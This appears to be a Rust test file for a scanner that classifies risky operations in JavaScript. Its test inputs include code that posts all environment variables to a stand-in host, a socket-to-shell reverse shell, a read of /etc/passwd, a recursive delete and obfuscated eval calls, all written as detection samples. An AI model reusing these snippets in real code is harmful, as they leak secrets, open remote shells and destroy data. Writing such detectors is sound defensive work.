//! Tests of the lowering as a whole.

use super::*;
use crate::scan::operation::{Act, Origins, ShellUse};

fn acts(text: &str) -> Vec<String> {
    lower(text, false)
        .operations
        .iter()
        .map(|operation| match &operation.act {
            Act::Execute {
                program,
                command,
                shell,
                ..
            } => {
                let program = program.as_deref().unwrap_or("?");
                format!(
                    "execute {program} {shell:?} {:?}",
                    command.text.as_deref().unwrap_or("?")
                )
            }
            Act::Evaluate { code } => {
                format!("evaluate {:?}", code.text.as_deref().unwrap_or("?"))
            }
            Act::Import { .. } => "import".to_owned(),
            Act::Deserialize => "deserialize".to_owned(),
            Act::Contact {
                address,
                payload,
                local,
            } => format!(
                "contact {} env={} local={local}",
                address.text.as_deref().unwrap_or("?"),
                payload.origins.has(Origins::ENVIRONMENT)
            ),
            Act::Rewire => "rewire".to_owned(),
            Act::Capture { what } => format!("capture {}", what.word()),
            Act::Inject => "inject".to_owned(),
            Act::Read { path } => format!("read {}", path.text.as_deref().unwrap_or("?")),
            Act::Write { path, .. } => format!("write {}", path.text.as_deref().unwrap_or("?")),
            Act::Delete { path, recursive } => {
                format!("delete {} {recursive}", path.text.as_deref().unwrap_or("?"))
            }
            Act::Environment { name, contained } => {
                format!("environment {} {contained}", name.as_deref().unwrap_or("*"))
            }
        })
        .collect()
}

#[test]
fn programs_and_shells() {
    let text = "import * as cp from 'node:child_process';\n\
        cp.execFile('git', ['status']);\n\
        cp.spawnSync('/bin/sh', ['-lc', 'ls ' + '-l']);\n\
        cp.spawn('ls', { shell: on });\n\
        cp.fork('./w.js');\n";
    assert_eq!(
        acts(text),
        [
            "execute git No \"git status\"",
            "execute sh Yes \"ls -l\"",
            "execute ls Unproven \"ls\"",
            "execute node No \"./w.js\"",
        ]
    );
    assert!(
        lower(text, false)
            .operations
            .iter()
            .any(|operation| matches!(
                operation.act,
                Act::Execute {
                    shell: ShellUse::Yes,
                    ..
                }
            ))
    );
}

#[test]
fn constants_are_folded() {
    assert_eq!(acts("eval(atob('MSsx'))"), ["evaluate \"1+1\""]);
    assert_eq!(
        acts("eval(['a', 'b'].join('') + `${'c'}`)"),
        ["evaluate \"abc\""]
    );
    assert_eq!(
        acts("eval('cba'.split('').reverse().join(''))"),
        ["evaluate \"abc\""]
    );
    assert_eq!(
        acts("eval(String.fromCharCode(104, 105))"),
        ["evaluate \"hi\""]
    );
}

#[test]
fn the_environment_as_a_whole_or_by_name() {
    assert_eq!(
        acts("const k = process.env.API_KEY;"),
        ["environment API_KEY false"]
    );
    assert_eq!(
        acts("const { HOME } = process.env;"),
        ["environment HOME false"]
    );
    assert_eq!(
        acts("const e = process.env; f(e.HOME, e[k]);"),
        ["environment HOME false", "environment * true"]
    );
    assert_eq!(
        acts("f({ env: { ...process.env, A: '1' } })"),
        ["environment * true"]
    );
    assert_eq!(acts("process.env.A = '1';"), Vec::<String>::new());
    assert_eq!(
        acts(
            "fetch('https://x.example.com/', { method: 'POST', body: JSON.stringify(process.env) })"
        ),
        [
            "contact https://x.example.com/ env=true local=false",
            "environment * false"
        ]
    );
}

#[test]
fn files_networks_and_wires() {
    assert_eq!(
        acts("const fs = require('fs/promises'); fs.rm('/x', { recursive: true });"),
        ["delete /x true"]
    );
    assert_eq!(
        acts("import { readFileSync as r } from 'fs'; r('/etc/passwd');"),
        ["read /etc/passwd"]
    );
    assert_eq!(
        acts("require('http').get('http://localhost:1/')"),
        ["contact http://localhost:1/ env=false local=true"]
    );
    assert_eq!(
        acts(
            "const net = require('net'), cp = require('child_process');\nconst s = net.connect(1, h), p = cp.spawn('sh');\ns.pipe(p.stdin); p.stdout.pipe(s);"
        ),
        [
            "contact ? env=false local=false",
            "execute sh No \"sh\"",
            "rewire",
            "rewire"
        ]
    );
}

#[test]
fn imports_of_all_kinds() {
    let text = "import a from './a.js';\nexport * from './b.js';\nconst c = require('./c');\nawait import('./d.mjs');\nrequire(x);\n";
    let lowered = lower(text, false);
    let names: Vec<&str> = lowered
        .imports
        .iter()
        .map(|import| import.name.as_str())
        .collect();
    assert_eq!(names, ["./a.js", "./b.js", "./c", "./d.mjs"]);
    assert_eq!(acts(text), ["import"]);
}

#[test]
fn scopes_hide_and_give_back() {
    assert_eq!(
        acts(
            "const { exec } = require('child_process');\n{ const exec = f; exec('a'); }\nfunction g(exec) { exec('b'); }\nexec('c');"
        ),
        ["execute c Yes \"c\""]
    );
}

#[test]
fn a_broken_line_costs_only_itself() {
    let text = "eval(a);\nthis is no script\neval(b);\n";
    let lowered = lower(text, false);
    assert_eq!(lowered.operations.len(), 2);
    assert!(matches!(lowered.incomplete, Some(Incomplete::Syntax(_, _))));
    assert_eq!(
        lower(
            "#!/usr/bin/env node\nconst a = <b>c</b>;\nreturn 1;\n",
            false
        )
        .incomplete,
        None
    );
    assert_eq!(
        lower("const a: string = <string>b;\n", true).incomplete,
        None
    );
    assert_eq!(
        lower("const a: string = 'x' as string;\n", false).incomplete,
        None
    );
}

#[test]
fn hostile_shapes_neither_overflow_nor_hang() {
    for (head, middle, tail) in [
        ("(", "1", ")"),
        ("[", "1", "]"),
        ("`${", "1", "}`"),
        ("{", "", "}"),
        ("a=>", "1", ""),
        ("!", "1", ""),
        ("a?1:", "1", ""),
        ("if(1)", ";", ""),
        ("a=", "1", ""),
        ("<a>", "", "</a>"),
        ("f(", "1", ")"),
        ("new ", "a", ""),
        ("a**", "1", ""),
        ("if(1);else ", ";", ""),
        ("a<", "1", ""),
        ("a+", "1", ""),
        ("", "a", ".b"),
        ("", "a", "()"),
        ("", "a", "``"),
        ("a:", ";", ""),
        ("", "a", "!"),
        ("", "a", " as b"),
        ("", "eval", "(eval)"),
        ("x[", "1", "]"),
        ("type A=", "B", "[]"),
        ("", "let a = b", ".c;"),
        ("a&&", "1", ""),
        ("- ", "1", ""),
        ("await ", "1", ""),
        ("", "type A = a", ".b"),
        ("", "<a", ".b"),
        ("class A extends ", "B", "{}"),
        ("a<<", "1", ""),
        ("a <", "<T>1", ""),
        ("({a:", "1", "})"),
        ("f(()=>{", "", "})"),
        ("async function f(){", "", "}"),
        ("class A{m(){", "", "}}"),
        ("f(function(a=", "1", "){})"),
        ("[...[", "1", "]]"),
        ("eval(eval(", "a", "))"),
        ("const {a:", "b", "}=c"),
        ("\"(\"+(", "1", ")"),
    ] {
        // Without a stack of its own, with one, and too deep.
        for many in [36, 70, 140, 600, 1900, 30_000] {
            for typescript in [false, true] {
                let text = format!("{}{middle}{}", head.repeat(many), tail.repeat(many));
                std::hint::black_box(lower(&text, typescript));
            }
        }
    }
}

proptest::proptest! {
    #[test]
    fn token_soup_never_panics(text in "(const |let |var |function |async |await |class |import |export |from |require|eval|exec|process\\.env|\\(|\\)|\\[|\\]|\\{|\\}|=>|=|\\+|\\.|,|;|:|\\?|`|\\$\\{|'|\"|'child_process'|é|a|b|1|/|\\*|<|>|\\n| |#|@|\\\\){0,60}", typescript: bool) {
        for operation in lower(&text, typescript).operations {
            proptest::prop_assert!(text.get(operation.span.start..operation.span.end).is_some());
        }
    }
}
